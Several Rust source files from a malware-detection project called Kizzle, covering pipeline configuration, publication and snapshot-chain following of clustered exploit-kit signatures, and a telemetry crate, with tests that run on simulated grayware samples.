//! Pipeline configuration.

use kizzle_cluster::{DbscanParams, DistributedConfig};
use kizzle_signature::SignatureConfig;
use kizzle_winnow::WinnowConfig;

/// Configuration of the whole Kizzle pipeline.
///
/// The defaults reproduce the paper's operating point where it is stated
/// (DBSCAN threshold 0.10, 200-token signature cap) and otherwise use the
/// values determined in DESIGN.md.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct KizzleConfig {
    /// Distributed clustering configuration (partition count stands in for
    /// the paper's 50 machines).
    pub clustering: DistributedConfig,
    /// Maximum number of tokens per sample used for clustering; longer
    /// samples are truncated to this prefix, which bounds the edit-distance
    /// cost without affecting the packer-dominated head of the document.
    pub token_cap: usize,
    /// Minimum number of samples in a cluster before a signature is
    /// generated from it. Clusters below this size are ignored — which is
    /// exactly the false-negative mechanism the paper describes for rare
    /// kit variants.
    pub min_cluster_size: usize,
    /// How many days of samples the incremental corpus engine keeps warm
    /// (including the day being processed). Consecutive grayware corpora
    /// overlap heavily, so retained samples turn into index cache hits the
    /// next day; samples older than the window are retired before each
    /// day runs. `1` clusters each day fully cold. Does not affect labels —
    /// the day's clustering is restricted to the day's samples either way.
    pub retention_days: usize,
    /// Winnowing parameters for cluster labeling.
    pub winnow: WinnowConfig,
    /// Default winnow-overlap threshold above which a cluster prototype is
    /// considered to belong to a known family. Per-family overrides live in
    /// the reference corpus.
    pub label_threshold: f64,
    /// Signature generation parameters.
    pub signature: SignatureConfig,
}

impl KizzleConfig {
    /// The paper-faithful configuration.
    #[must_use]
    pub fn paper() -> Self {
        KizzleConfig {
            clustering: DistributedConfig::new(4, DbscanParams::new(0.10, 4), 0),
            token_cap: 900,
            min_cluster_size: 4,
            retention_days: 3,
            winnow: WinnowConfig::default(),
            label_threshold: 0.60,
            signature: SignatureConfig::default(),
        }
    }

    /// A configuration tuned for unit tests and doc examples: fewer
    /// partitions, smaller clusters accepted, shorter token cap.
    #[must_use]
    pub fn fast() -> Self {
        KizzleConfig {
            clustering: DistributedConfig::new(2, DbscanParams::new(0.10, 3), 0),
            token_cap: 500,
            min_cluster_size: 3,
            retention_days: 2,
            winnow: WinnowConfig::default(),
            label_threshold: 0.60,
            signature: SignatureConfig::default(),
        }
    }

    /// Validate invariants that cross module boundaries.
    ///
    /// # Panics
    ///
    /// Panics if the label threshold is outside `(0, 1]`, the token cap is
    /// smaller than the signature cap, the minimum cluster size is zero, or
    /// the retention window is zero.
    #[must_use]
    pub fn validated(self) -> Self {
        assert!(
            self.label_threshold > 0.0 && self.label_threshold <= 1.0,
            "label_threshold must be in (0, 1]"
        );
        assert!(
            self.token_cap >= self.signature.max_tokens,
            "token_cap must be at least the signature token cap"
        );
        assert!(self.min_cluster_size >= 1, "min_cluster_size must be >= 1");
        assert!(self.retention_days >= 1, "retention_days must be >= 1");
        self
    }
}

impl Default for KizzleConfig {
    fn default() -> Self {
        KizzleConfig::paper()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paper_config_matches_stated_parameters() {
        let cfg = KizzleConfig::paper().validated();
        assert!((cfg.clustering.dbscan.eps - 0.10).abs() < 1e-12);
        assert_eq!(cfg.signature.max_tokens, 200);
    }

    #[test]
    fn default_is_paper() {
        assert_eq!(KizzleConfig::default(), KizzleConfig::paper());
    }

    #[test]
    fn fast_config_is_valid() {
        let _ = KizzleConfig::fast().validated();
    }

    #[test]
    #[should_panic(expected = "label_threshold")]
    fn invalid_threshold_panics() {
        let mut cfg = KizzleConfig::paper();
        cfg.label_threshold = 1.5;
        let _ = cfg.validated();
    }

    #[test]
    #[should_panic(expected = "token_cap")]
    fn token_cap_below_signature_cap_panics() {
        let mut cfg = KizzleConfig::paper();
        cfg.token_cap = 100;
        let _ = cfg.validated();
    }

    #[test]
    #[should_panic(expected = "retention_days")]
    fn zero_retention_panics() {
        let mut cfg = KizzleConfig::paper();
        cfg.retention_days = 0;
        let _ = cfg.validated();
    }
}
