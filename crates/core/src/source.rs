//! Signature publication sources: the read side of the compile→serve
//! split.
//!
//! A [`Matcher`](crate::Matcher) does not care *where* published
//! signature sets come from — only that it can cheaply ask "did the set
//! change?" and, when it did, fetch a consistent `(epoch, set)` pair.
//! [`SignatureSource`] is exactly that contract, with two
//! implementations:
//!
//! * [`EpochSource`] — the in-process publication point a
//!   [`KizzleService`](crate::KizzleService) swaps on every seal. This is
//!   the pre-existing epoch mechanism, moved here unchanged: publication
//!   is still a reference-count bump and a pointer swap under a write
//!   lock held for nanoseconds.
//! * [`ChainFollower`] — tails a snapshot-chain directory written by
//!   [`KizzleCompiler::save_state`](crate::KizzleCompiler::save_state)
//!   on another thread, another process, or another machine's shared
//!   filesystem. Each [`ChainFollower::poll`] stats the `MANIFEST`,
//!   diffs the recorded signature-section fingerprints, and only when
//!   they moved re-opens the chain, decodes the signature and
//!   scan-pipeline sections, and swaps the new set in **exactly like the
//!   epoch swap** — scans in flight keep the previous complete set; the
//!   next scan on each handle picks up the new one atomically.
//!
//! The follower is the subscription half of the deployment topology the
//! paper implies but never names: one compiler sealing days and saving
//! chains, N scan workers (see `kizzle-serve`) following the chain
//! directory with zero coupling to the compiler process.

use crate::config::KizzleConfig;
use crate::error::KizzleError;
use crate::snapshot::{
    decode_signature_set, MANIFEST_FILE, SCAN_SECTION, SIGNATURES_SECTION, STATE_CHAIN_PREFIX,
};
use kizzle_signature::{ScanPipeline, SignatureSet};
use kizzle_snapshot::chain::SECTION_KEY_PREFIX;
use kizzle_snapshot::{crc32, ChainedSnapshot, Decoder, Manifest, SectionSource, SnapshotError};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Condvar, Mutex, RwLock};
use std::thread::JoinHandle;
use std::time::{Duration, SystemTime};

/// Where published signature sets come from — the read-side contract
/// shared by every [`Matcher`](crate::Matcher).
///
/// The two methods split the cost the way the scan hot path needs:
/// [`SignatureSource::epoch_hint`] is a single atomic load (the lock-free
/// "did anything change?" fast path, hit once per scan), while
/// [`SignatureSource::current`] takes whatever lock the source needs to
/// read the `(epoch, set)` pair as one consistent unit (hit only when the
/// hint moved). The pair contract is absolute: the epoch returned always
/// tags exactly the set returned, never a torn mixture — a publication
/// racing `current` yields either the complete previous pair or the
/// complete new one.
pub trait SignatureSource: Send + Sync + 'static {
    /// The publication epoch, as a lock-free hint. Monotone. A read
    /// racing a publication may lag by one — the caller then scans the
    /// previous complete set once more, which is the documented epoch
    /// semantics, not an error.
    fn epoch_hint(&self) -> u64;

    /// The current `(epoch, set)` pair, read as a consistent unit.
    fn current(&self) -> (u64, Arc<SignatureSet>);

    /// Token cap the signatures were compiled under; scans must truncate
    /// documents the same way the compiler did.
    fn token_cap(&self) -> usize;
}

/// The in-process epoch-swapped publication point shared by a
/// [`KizzleService`](crate::KizzleService) and every
/// [`Matcher`](crate::Matcher) handle it has issued.
///
/// The `(epoch, set)` pair lives under one `RwLock`, so a reader never
/// observes an epoch that disagrees with the set it tags — a writer bumps
/// both inside the write lock (held only for a counter increment and a
/// pointer swap). The `epoch_hint` atomic is exactly that, a *hint*: the
/// lock-free fast path compares it against a handle's cached epoch and
/// skips the lock entirely when nothing was published. A hint read that
/// races a publish at worst serves the previous — complete and
/// consistent — set for one more scan.
#[derive(Debug)]
pub struct EpochSource {
    epoch_hint: AtomicU64,
    set: RwLock<(u64, Arc<SignatureSet>)>,
    /// Token cap the signatures were compiled under; scans truncate
    /// documents the same way the compiler did.
    token_cap: usize,
}

impl EpochSource {
    pub(crate) fn new(set: Arc<SignatureSet>, token_cap: usize) -> Self {
        EpochSource {
            epoch_hint: AtomicU64::new(0),
            set: RwLock::new((0, set)),
            token_cap,
        }
    }

    /// Publish a shared handle to the compiler's set. Publication is a
    /// reference-count bump and a pointer swap — the once-daily deep clone
    /// of the whole set is gone; the compiler's next append copies the
    /// members via `Arc::make_mut` instead (and only while an epoch still
    /// shares them).
    pub(crate) fn publish(&self, set: Arc<SignatureSet>) {
        let signatures = set.len();
        let mut slot = self.set.write().expect("signature publication lock");
        slot.0 += 1;
        slot.1 = set;
        self.epoch_hint.store(slot.0, Ordering::Release);
        drop(slot);
        if kizzle_telemetry::enabled() {
            kizzle_telemetry::counter("kizzle_publish_epochs_total").incr();
            kizzle_telemetry::gauge("kizzle_signatures_live").set(signatures as u64);
        }
    }
}

impl SignatureSource for EpochSource {
    fn epoch_hint(&self) -> u64 {
        self.epoch_hint.load(Ordering::Acquire)
    }

    fn current(&self) -> (u64, Arc<SignatureSet>) {
        let slot = self.set.read().expect("signature publication lock");
        (slot.0, Arc::clone(&slot.1))
    }

    fn token_cap(&self) -> usize {
        self.token_cap
    }
}

/// Decode the serving-side sections of a compiler-state snapshot: the
/// signature set (required) plus its sealed scan pipeline (an
/// accelerator — any failure to restore it only adds a note and the set
/// reseals lazily). This is the **single** reader of those sections:
/// [`KizzleCompiler::load_state`](crate::KizzleCompiler::load_state),
/// [`read_signatures`](crate::read_signatures) and the [`ChainFollower`]
/// all route through it, so the chain layout has exactly one
/// interpretation.
pub(crate) fn decode_signature_sections(
    source: &impl SectionSource,
) -> Result<(SignatureSet, Vec<String>), SnapshotError> {
    let mut dec = Decoder::new(source.section(SIGNATURES_SECTION)?);
    let mut signatures = decode_signature_set(&mut dec)?;
    dec.finish()?;

    let mut notes = Vec::new();
    let pipeline = source.section(SCAN_SECTION).and_then(|payload| {
        let mut dec = Decoder::new(payload);
        let pipeline = ScanPipeline::decode_from(&mut dec, signatures.len())?;
        dec.finish()?;
        Ok(pipeline)
    });
    match pipeline {
        Ok(pipeline) => {
            if !signatures.attach_pipeline(pipeline) {
                notes.push("scan pipeline does not cover the set, resealing".to_string());
            }
        }
        Err(err) => {
            notes.push(format!("scan pipeline not restored, resealing: {err}"));
        }
    }
    Ok((signatures, notes))
}

/// A `crc/len` section fingerprint in the manifest's format, so locally
/// computed fingerprints compare against recorded ones as plain strings.
fn fingerprint(payload: &[u8]) -> String {
    format!("{:#010x}/{}", crc32(payload), payload.len())
}

/// Bookkeeping one poll hands the next, under the poll mutex.
#[derive(Debug, Default)]
struct FollowState {
    /// `(mtime, len)` of the manifest at the last completed poll — the
    /// cheapest "nothing happened" check (the manifest is rewritten
    /// atomically on every save, so an unchanged stat means no save).
    manifest_stamp: Option<(SystemTime, u64)>,
    /// Fingerprint of the signature section currently swapped in.
    sig_fingerprint: Option<String>,
    /// Fingerprint of the scan-pipeline section currently swapped in.
    scan_fingerprint: Option<String>,
    /// Bounded log of degradations observed while following.
    notes: Vec<String>,
}

impl FollowState {
    const MAX_NOTES: usize = 32;

    fn push_note(&mut self, note: String) {
        if self.notes.last() == Some(&note) {
            return;
        }
        if self.notes.len() == Self::MAX_NOTES {
            self.notes.remove(0);
        }
        self.notes.push(note);
    }
}

/// A [`SignatureSource`] that tails a snapshot-chain directory.
///
/// The follower is the serving side of a split deployment: a compiler
/// process seals days and [`save_state`](crate::KizzleCompiler::save_state)s
/// into a directory; any number of scan workers hold
/// [`Matcher::over`](crate::Matcher::over) handles on one shared
/// `Arc<ChainFollower>` and keep scanning the last published set while
/// [`ChainFollower::poll`] (called manually, or on the
/// [`ChainFollower::follow`] background thread) watches for the next
/// save.
///
/// ## Freshness and consistency
///
/// `poll` is a stat loop, not inotify: a new save is observed at the next
/// poll, so staleness is bounded by the poll interval plus one decode.
/// Consistency is absolute regardless: the chain's files and its manifest
/// are each written atomically (tmp + rename), the manifest only after
/// its chain file, so every poll sees either the complete previous save
/// or the complete new one — and the in-memory swap is the same
/// epoch-bump-under-write-lock the in-process [`EpochSource`] uses, so a
/// scan never observes a torn set. A save that only touched non-signature
/// sections (store/index churn on a day with no new signatures) is
/// detected by the recorded section fingerprints and skipped without
/// opening the chain, let alone decoding it.
///
/// Damage follows the chain's own degradation ladder: a broken delta
/// truncates to the intact prefix (the follower serves the older,
/// self-consistent set and notes it), an unreadable base keeps the
/// previously decoded set (last-known-good) and returns the error.
#[derive(Debug)]
pub struct ChainFollower {
    dir: PathBuf,
    prefix: String,
    epoch_hint: AtomicU64,
    slot: RwLock<(u64, Arc<SignatureSet>)>,
    /// Cap read from the manifest's `token_cap` key; until a manifest
    /// says otherwise, the paper configuration's cap.
    token_cap: AtomicUsize,
    state: Mutex<FollowState>,
}

impl ChainFollower {
    /// A follower for the standard compiler-state chain
    /// (`kizzle-state.snap` + deltas) in `dir`. Construction never
    /// touches the filesystem — a follower may be created before the
    /// compiler's first save; [`ChainFollower::poll`] reports
    /// [`KizzleError::Snapshot`] (io not-found) until a base exists,
    /// and every [`Matcher`](crate::Matcher) scans the empty set
    /// (epoch 0) meanwhile.
    #[must_use]
    pub fn new(dir: impl Into<PathBuf>) -> Self {
        ChainFollower::with_prefix(dir, STATE_CHAIN_PREFIX)
    }

    /// A follower for the chain `<dir>/<prefix>.snap` + deltas.
    #[must_use]
    pub fn with_prefix(dir: impl Into<PathBuf>, prefix: impl Into<String>) -> Self {
        let empty = SignatureSet::new();
        empty.seal();
        ChainFollower {
            dir: dir.into(),
            prefix: prefix.into(),
            epoch_hint: AtomicU64::new(0),
            slot: RwLock::new((0, Arc::new(empty))),
            token_cap: AtomicUsize::new(KizzleConfig::paper().token_cap),
            state: Mutex::new(FollowState::default()),
        }
    }

    /// The chain directory being tailed.
    #[must_use]
    pub fn dir(&self) -> &Path {
        &self.dir
    }

    /// Check the chain directory once and swap in a new set if one was
    /// published. Returns `Ok(true)` when a new epoch was swapped in,
    /// `Ok(false)` when the published signatures are unchanged (three
    /// fast paths, cheapest first: manifest stat, recorded section
    /// fingerprints, locally computed fingerprints of the opened chain).
    ///
    /// Concurrent polls serialize on an internal mutex; scans are never
    /// blocked by a poll except for the final pointer-swap instant.
    ///
    /// # Errors
    ///
    /// [`KizzleError::Snapshot`] when no chain base is readable (io
    /// not-found before the compiler's first save — the caller's signal
    /// to keep waiting) or the signature section of an opened chain is
    /// damaged. The previously decoded set stays published either way.
    pub fn poll(&self) -> Result<bool, KizzleError> {
        let mut state = self.state.lock().expect("chain follower poll lock");
        let loaded = self.epoch_hint.load(Ordering::Acquire) > 0;

        // Fast path 1: the manifest file did not move since the last
        // completed poll — no save happened.
        let manifest_path = self.dir.join(MANIFEST_FILE);
        let stamp = std::fs::metadata(&manifest_path)
            .ok()
            .and_then(|meta| Some((meta.modified().ok()?, meta.len())));
        if loaded && stamp.is_some() && stamp == state.manifest_stamp {
            return Ok(false);
        }

        // Fast path 2: the manifest moved (or stat is unusable), but the
        // signature fingerprints it records are the ones already swapped
        // in — the save only touched other sections.
        let manifest = Manifest::read(&manifest_path).ok();
        if loaded {
            if let Some(manifest) = &manifest {
                let sig = manifest
                    .get(&format!("{SECTION_KEY_PREFIX}{SIGNATURES_SECTION}"))
                    .map(str::to_string);
                let scan = manifest
                    .get(&format!("{SECTION_KEY_PREFIX}{SCAN_SECTION}"))
                    .map(str::to_string);
                if sig.is_some() && sig == state.sig_fingerprint && scan == state.scan_fingerprint {
                    state.manifest_stamp = stamp;
                    return Ok(false);
                }
            }
        }

        // Full read: overlay the chain and fingerprint the winning
        // sections ourselves (covers manifest-less bare bases and
        // truncated chains, where the recorded fingerprints lie).
        let snapshot =
            ChainedSnapshot::open(&self.dir, &self.prefix).map_err(KizzleError::Snapshot)?;
        let sig_fingerprint = Some(fingerprint(
            snapshot
                .section(SIGNATURES_SECTION)
                .map_err(KizzleError::Snapshot)?,
        ));
        let scan_fingerprint = snapshot.section(SCAN_SECTION).ok().map(fingerprint);
        if loaded
            && sig_fingerprint == state.sig_fingerprint
            && scan_fingerprint == state.scan_fingerprint
        {
            state.manifest_stamp = stamp;
            return Ok(false);
        }

        let (set, decode_notes) =
            decode_signature_sections(&snapshot).map_err(KizzleError::Snapshot)?;
        if let Some(cap) = manifest
            .as_ref()
            .and_then(|m| m.get("token_cap"))
            .and_then(|v| v.parse().ok())
        {
            self.token_cap.store(cap, Ordering::Relaxed);
        }
        // Seal before the swap: no scan on any handle ever pays the
        // pipeline build (usually free — the scan-pipeline section
        // already attached one).
        set.seal();
        let signatures = set.len();
        {
            let mut slot = self.slot.write().expect("chain follower slot lock");
            slot.0 += 1;
            slot.1 = Arc::new(set);
            self.epoch_hint.store(slot.0, Ordering::Release);
        }
        state.sig_fingerprint = sig_fingerprint;
        state.scan_fingerprint = scan_fingerprint;
        state.manifest_stamp = stamp;
        for note in snapshot.notes() {
            state.push_note(note.clone());
        }
        for note in decode_notes {
            state.push_note(note);
        }
        if kizzle_telemetry::enabled() {
            kizzle_telemetry::counter("kizzle_chain_refreshes_total").incr();
            kizzle_telemetry::gauge("kizzle_signatures_live").set(signatures as u64);
        }
        Ok(true)
    }

    /// Degradations observed while following (chain truncations, lost
    /// scan pipelines, background poll errors) — newest last, bounded,
    /// consecutive duplicates collapsed.
    #[must_use]
    pub fn notes(&self) -> Vec<String> {
        self.state
            .lock()
            .expect("chain follower poll lock")
            .notes
            .clone()
    }

    /// Spawn a background thread that [`ChainFollower::poll`]s every
    /// `interval` until the returned handle is dropped or
    /// [`FollowHandle::shutdown`] is called (both stop promptly — the
    /// sleep is a condvar wait, not a hard `sleep`). Poll errors are
    /// recorded as [`ChainFollower::notes`], except not-found (the
    /// compiler simply has not saved yet).
    pub fn follow(self: &Arc<Self>, interval: Duration) -> FollowHandle {
        let follower = Arc::clone(self);
        let signal = Arc::new((Mutex::new(false), Condvar::new()));
        let thread_signal = Arc::clone(&signal);
        let worker = std::thread::Builder::new()
            .name("kizzle-follow".into())
            .spawn(move || {
                let (stop, wake) = &*thread_signal;
                loop {
                    if let Err(err) = follower.poll() {
                        let waiting = matches!(
                            &err,
                            KizzleError::Snapshot(SnapshotError::Io(io))
                                if io.kind() == std::io::ErrorKind::NotFound
                        );
                        if !waiting {
                            let mut state =
                                follower.state.lock().expect("chain follower poll lock");
                            state.push_note(format!("chain poll failed: {err}"));
                        }
                    }
                    let stopped = stop.lock().expect("follow stop lock");
                    if *stopped {
                        return;
                    }
                    let (stopped, _) = wake
                        .wait_timeout(stopped, interval)
                        .expect("follow stop lock");
                    if *stopped {
                        return;
                    }
                }
            })
            .expect("spawn chain follower thread");
        FollowHandle {
            signal,
            worker: Some(worker),
        }
    }
}

impl SignatureSource for ChainFollower {
    fn epoch_hint(&self) -> u64 {
        self.epoch_hint.load(Ordering::Acquire)
    }

    fn current(&self) -> (u64, Arc<SignatureSet>) {
        let slot = self.slot.read().expect("chain follower slot lock");
        (slot.0, Arc::clone(&slot.1))
    }

    fn token_cap(&self) -> usize {
        self.token_cap.load(Ordering::Relaxed)
    }
}

/// Handle to a [`ChainFollower::follow`] background thread. Dropping it
/// stops and joins the thread.
#[derive(Debug)]
pub struct FollowHandle {
    signal: Arc<(Mutex<bool>, Condvar)>,
    worker: Option<JoinHandle<()>>,
}

impl FollowHandle {
    /// Stop the polling thread and wait for it to exit.
    pub fn shutdown(mut self) {
        self.stop();
    }

    fn stop(&mut self) {
        let (stop, wake) = &*self.signal;
        *stop.lock().expect("follow stop lock") = true;
        wake.notify_all();
        if let Some(worker) = self.worker.take() {
            if let Err(payload) = worker.join() {
                std::panic::resume_unwind(payload);
            }
        }
    }
}

impl Drop for FollowHandle {
    fn drop(&mut self) {
        self.stop();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::reference::ReferenceCorpus;
    use crate::service::KizzleService;
    use crate::Matcher;
    use kizzle_corpus::{GraywareStream, KitFamily, SimDate, StreamConfig};

    fn test_day(date: SimDate, seed: u64) -> Vec<kizzle_corpus::Sample> {
        let config = StreamConfig {
            samples_per_day: 48,
            malicious_fraction: 0.5,
            family_weights: vec![
                (KitFamily::Angler, 0.4),
                (KitFamily::Nuclear, 0.3),
                (KitFamily::SweetOrange, 0.3),
            ],
            seed,
        };
        GraywareStream::new(config).generate_day(date)
    }

    fn test_service() -> KizzleService {
        let config = KizzleConfig::fast();
        let reference = ReferenceCorpus::seeded_from_models(SimDate::new(2014, 8, 1), &config);
        KizzleService::new(config, reference).expect("fast config is valid")
    }

    fn chain_dir(name: &str) -> PathBuf {
        let dir =
            std::env::temp_dir().join(format!("kizzle-source-test-{}-{name}", std::process::id()));
        std::fs::remove_dir_all(&dir).ok();
        dir
    }

    #[test]
    fn follower_waits_until_the_first_save_then_swaps_in() {
        let dir = chain_dir("first-save");
        let follower = ChainFollower::new(&dir);
        // Nothing published yet: poll reports not-found, the matcher
        // scans the empty set at epoch 0.
        assert!(matches!(
            follower.poll(),
            Err(KizzleError::Snapshot(SnapshotError::Io(_)))
        ));
        assert_eq!(follower.current().0, 0);
        assert!(follower.current().1.is_empty());

        let date = SimDate::new(2014, 8, 5);
        let mut service = test_service();
        let day = test_day(date, 3);
        service.process_day(date, &day).expect("day processes");
        service.save(&dir).expect("state saved");

        assert!(follower.poll().expect("chain readable"));
        let (epoch, set) = follower.current();
        assert_eq!(epoch, 1);
        assert_eq!(&*set, &*service.signatures());
        assert!(set.is_sealed(), "scan-pipeline section must pre-seal");
        // Token cap came from the manifest.
        assert_eq!(follower.token_cap(), service.config().token_cap);
        // A second poll with no new save is a cheap no-op.
        assert!(!follower.poll().expect("chain readable"));
        assert_eq!(follower.current().0, 1);
        std::fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn follower_swaps_like_the_epoch_source_and_skips_unchanged_saves() {
        let dir = chain_dir("parity");
        let mut service = test_service();
        let follower = Arc::new(ChainFollower::new(&dir));
        let tailing: Matcher<ChainFollower> = Matcher::over(Arc::clone(&follower));
        let in_process = service.matcher();

        let d1 = SimDate::new(2014, 8, 5);
        let d2 = SimDate::new(2014, 8, 6);
        for (date, seed) in [(d1, 3), (d2, 4)] {
            let day = test_day(date, seed);
            service.process_day(date, &day).expect("day processes");
            service.save(&dir).expect("state saved");
            assert!(follower.poll().expect("chain readable"));
            // Byte-identical verdicts through both sources, and the same
            // Arc shared by the whole follower (no per-scan clone).
            assert_eq!(&*tailing.signatures(), &*in_process.signatures());
            assert!(Arc::ptr_eq(&tailing.signatures(), &follower.current().1));
            for sample in &day {
                assert_eq!(tailing.scan(&sample.html), in_process.scan(&sample.html));
            }
        }
        assert_eq!(tailing.epoch(), 2, "one swap per signature change");

        // A save that changes nothing must not bump the follower's epoch
        // (fingerprint fast path).
        service.save(&dir).expect("no-change save");
        assert!(!follower.poll().expect("chain readable"));
        assert_eq!(tailing.epoch(), 2);
        std::fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn follow_thread_picks_up_saves_and_shuts_down_promptly() {
        let dir = chain_dir("thread");
        let follower = Arc::new(ChainFollower::new(&dir));
        let handle = follower.follow(Duration::from_millis(5));

        let date = SimDate::new(2014, 8, 5);
        let mut service = test_service();
        service
            .process_day(date, &test_day(date, 7))
            .expect("day processes");
        service.save(&dir).expect("state saved");

        let deadline = std::time::Instant::now() + Duration::from_secs(30);
        while follower.epoch_hint() == 0 {
            assert!(
                std::time::Instant::now() < deadline,
                "follower never saw the save"
            );
            std::thread::sleep(Duration::from_millis(2));
        }
        assert_eq!(&*follower.current().1, &*service.signatures());
        handle.shutdown();
        std::fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn broken_delta_degrades_to_the_intact_prefix_with_a_note() {
        let dir = chain_dir("damage");
        let mut service = test_service();
        let d1 = SimDate::new(2014, 8, 5);
        service
            .process_day(d1, &test_day(d1, 3))
            .expect("day processes");
        service.save(&dir).expect("base saved");
        let base_set = service.signatures().clone();

        let d2 = SimDate::new(2014, 8, 6);
        service
            .process_day(d2, &test_day(d2, 4))
            .expect("day processes");
        service.save(&dir).expect("delta saved");

        // Damage the delta: the follower truncates to the base and says so.
        let delta = dir.join("kizzle-state.delta-1.snap");
        let bytes = std::fs::read(&delta).expect("delta bytes");
        std::fs::write(&delta, &bytes[..bytes.len() / 2]).expect("truncate");

        let follower = ChainFollower::new(&dir);
        assert!(follower.poll().expect("base still readable"));
        assert_eq!(&*follower.current().1, &base_set);
        assert!(
            follower
                .notes()
                .iter()
                .any(|n| n.contains("delta chain broken")),
            "notes: {:?}",
            follower.notes()
        );
        std::fs::remove_dir_all(&dir).ok();
    }
}
