//! Unified observability for the Kizzle pipeline: a metrics registry of
//! named counters/gauges/histograms over sharded relaxed atomics, plus a
//! span/tracing layer that renders a per-day phase tree and a
//! machine-readable JSONL event log.
//!
//! Like the `vendor/` stand-ins, this crate is hand-rolled against a
//! registry-less build environment — std only, no dependencies — but it is
//! a product crate, not a shim: the serve-daemon track and the adaptive
//! channel-bound work both consume it.
//!
//! # Design
//!
//! * **Telemetry is opt-in and inert by default.** The global enable flag
//!   ([`set_enabled`]) starts `false`; a disabled counter bump is one
//!   relaxed load and a predicted branch, and a disabled span never pushes
//!   a record. Enabling telemetry must never perturb results — the
//!   equivalence property tests in `kizzle-core` hold a fully instrumented
//!   pipelined run byte-identical to an uninstrumented one.
//! * **Counters are sharded.** Each [`Counter`] spreads its cells over
//!   [`metrics::SHARDS`] cache-line-padded relaxed atomics indexed by a
//!   per-thread shard id, so concurrent scan threads do not bounce one
//!   cache line. Hot paths batch on top of that with [`metrics::Batched`]
//!   (a thread-local tally that touches the shared cell once per `N`
//!   events and flushes the remainder on thread exit), which is how the
//!   ns-scale matcher stage counters stay under the 5% overhead gate while
//!   remaining exact after threads join.
//! * **Spans always measure, and only sometimes record.** A
//!   [`trace::SpanGuard`] captures its start unconditionally —
//!   [`trace::SpanGuard::finish`] returns the elapsed
//!   [`Duration`](std::time::Duration) so the
//!   public stats structs (`DistributedStats`, `PipelineStats`) stay
//!   populated as *views over the same measurement* even when telemetry is
//!   off — but the record is buffered per-thread and flushed to the global
//!   collector only when enabled.
//! * **Exporters plug in through [`Recorder`].** The serve daemon (ROADMAP
//!   track 1) registers a recorder once and receives every span/event
//!   record as it is flushed, without the pipeline knowing the exporter
//!   exists.
//!
//! # Quickstart
//!
//! ```
//! use kizzle_telemetry as telemetry;
//!
//! telemetry::set_enabled(true);
//!
//! // Metrics: named handles resolved once, cheap to bump from any thread.
//! let scans = telemetry::counter("demo_scans_total");
//! scans.add(3);
//! telemetry::gauge("demo_live").set(7);
//! telemetry::histogram("demo_latency_ns").observe(12_000);
//!
//! // Spans: RAII guards nest into a per-day phase tree; point events ride
//! // the same log (this is how degraded snapshot resumes surface).
//! {
//!     let _day = telemetry::span!("day.demo");
//!     let inner = telemetry::span!("day.demo.inner");
//!     telemetry::event("demo.note", "resumed from base snapshot");
//!     let elapsed = inner.finish(); // Duration, even with telemetry off
//!     assert!(elapsed.as_nanos() > 0);
//! }
//!
//! // Exposition: Prometheus text, JSON dump, JSONL trace, rendered tree.
//! let prom = telemetry::render_prometheus();
//! assert!(prom.contains("demo_scans_total 3"));
//! assert!(telemetry::render_json().contains("\"demo_live\":7"));
//!
//! let records = telemetry::drain();
//! assert!(records.iter().any(|r| r.name() == "day.demo.inner"));
//! let jsonl = telemetry::render_jsonl(&records);
//! assert!(jsonl.contains("\"type\":\"event\""));
//! # telemetry::set_enabled(false);
//! ```

#![forbid(unsafe_code)]

pub mod metrics;
pub mod trace;

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::OnceLock;

pub use metrics::{counter, gauge, histogram, registry, Counter, Gauge, Histogram, Registry};
pub use trace::{drain, event, record_span, render_jsonl, render_tree, Record};

/// Global telemetry enable flag. Off by default: recording is a no-op and
/// the hot paths pay one relaxed load.
static ENABLED: AtomicBool = AtomicBool::new(false);

/// Whether telemetry recording is enabled.
#[inline]
#[must_use]
pub fn enabled() -> bool {
    ENABLED.load(Ordering::Relaxed)
}

/// Turn telemetry recording on or off, process-wide.
///
/// Flipping the flag never changes pipeline *results* — only whether
/// counters accumulate and spans/events are recorded.
pub fn set_enabled(on: bool) {
    ENABLED.store(on, Ordering::Relaxed);
}

/// An exporter tap: receives every span/event [`Record`] as it is flushed
/// from a thread's buffer into the global collector.
///
/// This is the integration point for the serve-daemon fleet (ROADMAP
/// track 1): a worker process registers a recorder once at startup and
/// ships records to its sidecar/aggregator without the instrumented crates
/// knowing an exporter exists. Metric *values* are pull-style — an exporter
/// snapshots them with [`render_prometheus`] / [`render_json`] on its own
/// cadence.
///
/// Recorders must be cheap and non-blocking: they run on whatever pipeline
/// thread happens to flush (worker, seal, or scan threads).
///
/// ```
/// use kizzle_telemetry::{Record, Recorder};
/// use std::sync::atomic::{AtomicUsize, Ordering};
///
/// static SHIPPED: AtomicUsize = AtomicUsize::new(0);
///
/// struct CountingExporter;
/// impl Recorder for CountingExporter {
///     fn record(&self, _record: &Record) {
///         SHIPPED.fetch_add(1, Ordering::Relaxed);
///     }
/// }
///
/// kizzle_telemetry::set_recorder(Box::new(CountingExporter));
/// kizzle_telemetry::set_enabled(true);
/// kizzle_telemetry::event("demo.ship", "one record");
/// kizzle_telemetry::drain();
/// assert!(SHIPPED.load(Ordering::Relaxed) >= 1);
/// # kizzle_telemetry::set_enabled(false);
/// ```
pub trait Recorder: Send + Sync {
    /// One span or event record, delivered at flush time.
    fn record(&self, record: &Record);
}

static RECORDER: OnceLock<Box<dyn Recorder>> = OnceLock::new();

/// Install the process-wide [`Recorder`]. The first call wins; later calls
/// return `false` and leave the existing recorder in place.
pub fn set_recorder(recorder: Box<dyn Recorder>) -> bool {
    RECORDER.set(recorder).is_ok()
}

pub(crate) fn recorder() -> Option<&'static dyn Recorder> {
    RECORDER.get().map(AsRef::as_ref)
}

/// Prometheus-style text exposition of every registered metric, sorted by
/// name. See [`Registry::render_prometheus`].
#[must_use]
pub fn render_prometheus() -> String {
    registry().render_prometheus()
}

/// JSON dump of every registered metric. See [`Registry::render_json`].
#[must_use]
pub fn render_json() -> String {
    registry().render_json()
}

/// Compact human-readable snapshot of all non-zero metrics, one per line —
/// the eval loop prints this to stderr after a run.
#[must_use]
pub fn render_summary() -> String {
    registry().render_summary()
